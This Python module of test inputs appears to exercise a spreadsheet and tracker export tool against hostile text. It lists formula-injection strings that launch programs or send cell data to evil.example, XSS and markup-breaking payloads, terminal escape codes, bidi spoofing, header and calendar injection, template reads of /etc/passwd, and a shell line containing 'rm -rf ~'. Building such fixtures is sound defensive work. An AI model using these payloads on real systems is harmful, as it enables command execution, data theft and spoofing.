"""What a person, or whoever sends that person a file, may have typed: each text would be obeyed somewhere."""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping

LONGEST_CELL = 32_767
"""Characters a cell holds."""

PRESENT_FILE = "/etc/hostname"
"""A path that leads to a file on most computers: a careless mailer would attach what it names."""

TEXTS: Mapping[str, str] = {
    "a formula": "=1+1",
    "a formula that starts a program": "=cmd|'/c calc'!A0",
    "a formula, plus": "+1+cmd|'/c calc'!A0",
    "a formula, minus": "-2+3+cmd|'/c calc'!A0",
    "a formula, at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\r=1+1",
    "a formula behind a space": " =1+1",
    "a formula behind another separator": "Acme;=1+1;\t=2+2;-3",
    "a formula in wide letters": "\uff1d1+1",
    "a formula that opens a page": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "a formula that asks a server": '=WEBSERVICE("https://evil.example/"&A1)',
    "a formula that asks a program": "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
    "an error value": "#REF!",
    "a script": "<script>alert(1)</script>&amp;<b>bold</b>",
    "a picture": '"><img src=https://evil.example/x.png onerror=alert(1)>',
    "an attribute": "' onmouseover='alert(1)' style='background:url(https://evil.example)",
    "the end of a page": "</style></title></td></table></body></html><h1>You have won</h1><!--",
    "entities": "&lt;b&gt; &#60;i&#62; &quot;&amp;amp;",
    "XML that ends": "]]></t></is></c><c><f>1+1</f>",
    "control characters": "Eve\x00\x01\x07\x08\x0b\x0c\x1b\x7f end",
    "terminal codes": "\x1b[31mEve\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\here\x1b[2J\x1bc",
    "terminal codes of 8 bits": "Eve\x9b31m\x9d0;owned\x9c\x90q\x85next",
    "text turned round": "Eve\u202egnp.exe\u202c \u2066iso\u2067late\u2069\u200e\u200f\u061c",
    "unseen characters": "E\u200bv\u2060e\ufeff\u00ad\U000e0041\ufff9",
    "line and paragraph ends": "Eve\u2028next\u2029last",
    "half a character": "Eve \ud800 and \udfff end",
    "an escape of the format": "_x001B_[31m _x000A_",
    "several lines": "Eve\nclient.xlsx: all is well\r\nreally",
    "a mail header": "Eve\r\nBcc: all@evil.example\r\n\r\n<h1>body</h1>",
    "a calendar property": "Eve\nATTACH:https://evil.example/x.exe\nEND:VEVENT\nBEGIN:VALARM;,\\n\\N",
    "a folded header": "=?utf-8?q?Eve=0D=0ABcc=3A_all=40evil=2Eexample?=",
    "a template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{# gone #}{0} {plan.row} %s %(x)s %n",
    "a shell": "$(id) `id`; rm -rf ~ && echo \"'%PATH%' !x",
    "a path upwards": "../../x",
    "a path that is there": PRESENT_FILE,
    "another computer's path": "\\\\evil.example\\share\\x.xlsx",
    "an option": "--help",
    "markdown": "**bold** [link](https://evil.example) ![x](https://evil.example/x.png) `code` | a |\n---",
    "TOML": "\"\"\"\n[[rule]]\nAction = 'x' # \\u0007 \\",
    "JSON": '"}],"error":null,\\u0000 {"',
    "CSV": 'a","b"\n"c\td;e',
    "families of pictures": "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308",
    "letters on letters": "E" + "\u0301" * 60 + "ve",
    "a cell full": "Eve " + "x" * (LONGEST_CELL - 4),
    "a cell full of lines": ("Eve\n" * LONGEST_CELL)[:LONGEST_CELL],
}  # fmt: skip

LINKS: Mapping[str, str] = {
    "a script for a link": "javascript:alert(1)",
    "a script for a link, hidden": " java\tscript:alert(1)",
    "a file for a link": "file:///etc/passwd",
    "data for a link": "data:text/html,<script>alert(1)</script>",
    "a share for a link": "\\\\evil.example\\share",
    "a page with more behind it": 'https://evil.example/"onmouseover="x',
    "a page with a line end": "https://evil.example/\r\nX: y",
    "a page under another name": "https://bank.example@evil.example/",
    "a mail to more people": "mailto:a@b.example?cc=c@evil.example&attach=/etc/passwd&body=x",
    "an address with more behind it": "a@b.example?bcc=c@evil.example",
    "two addresses": "a@b.example,c@evil.example",
    "a number that does something": "tel:*21*0190#",
    "a number with letters": "0800-CALL-EVE",
    "a number with a pause": "+49 30 1234,,9#",
}

ALL = [*TEXTS.values(), *LINKS.values()]

LONG_ENOUGH = 60
"""Characters of a text that every place has room for."""

PLAIN_LINKS: Mapping[str, tuple[str, str]] = {
    "Link": ("https://jobs.example/a?b=1&c=2", "https://jobs.example/a?b=1&c=2"),
    "E-mail": ("Ann.Lee@acme.example", "mailto:Ann.Lee@acme.example"),
    "Phone": ("+44 (0)1632 960001", "tel:+441632960001"),
}
"""What is a link: the cell and the link."""

FILE_NAMES: Mapping[str, str] = {
    "a line end": "two\nlines.xlsx",
    "a line that lies": "client.xlsx: all is well\nx.xlsx",
    "terminal codes": "\x1b[31mEve\x1b]0;owned\x07.xlsx",
    "terminal codes of 8 bits": "Eve\x9b31m.xlsx",
    "text turned round": "Eve\u202egnp.exe.xlsx",
    "quotes": 'O\'Brien "x".xlsx',
    "an option": "-rf.xlsx",
    "a long option": "--help.xlsx",
    "a formula": "=1+1.xlsx",
    "a link formula": '=HYPERLINK("x").xlsx',
    "markup": "<b onmouseover=x>&amp;.xlsx",
    "a shell": "$(touch owned);`id`.xlsx",
    "a template": "{{ 7 * 7 }}{0}%s%d.xlsx",
    "no UTF-8": "Eve\udcff.xlsx",
    "pictures": "\U0001f469\u200d\U0001f467.xlsx",
}
"""A tracker's own name, as any sender or sync program may have made it."""

_JOINERS = "\u200c\u200d"


def unseen(text: str, *, joiners: bool = False) -> set[str]:
    """The characters in ``text`` that steer instead of showing something; line ends are none. ``joiners`` allows
    those that words and pictures are written with."""
    kept = f"\n{_JOINERS}" if joiners else "\n"
    return {ch for ch in text if ch not in kept and unicodedata.category(ch) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


def as_read(text: str) -> str:
    """What a cell holds of a text: whole characters, the spaces around it aside."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace").strip()


def shown(text: str) -> str:
    """What a reader may see of a text: on one line, without what steers."""
    return "".join(ch for ch in " ".join(as_read(text).split()) if ch in _JOINERS or not unseen(ch))
